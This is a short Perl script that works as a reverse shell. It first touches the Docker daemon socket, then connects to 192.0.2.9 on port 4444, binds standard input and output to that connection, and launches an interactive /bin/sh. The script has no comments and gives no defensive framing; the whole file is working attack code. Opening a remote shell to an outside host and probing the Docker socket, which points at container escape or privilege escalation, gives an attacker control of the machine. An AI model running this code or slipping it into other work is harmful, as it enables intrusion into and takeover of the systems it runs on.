#!/usr/bin/perl
use strict; use warnings;
use IO::Socket::UNIX; use IO::Socket::INET;
my $s = IO::Socket::UNIX->new(Peer => "/var/run/docker.sock");
print $s "GET / HTTP/1.0\r\n\r\n";
my $c = IO::Socket::INET->new(PeerAddr => "192.0.2.9", PeerPort => 4444);
open(STDIN, ">&", $c); open(STDOUT, ">&", $c);
exec("/bin/sh", "-i");
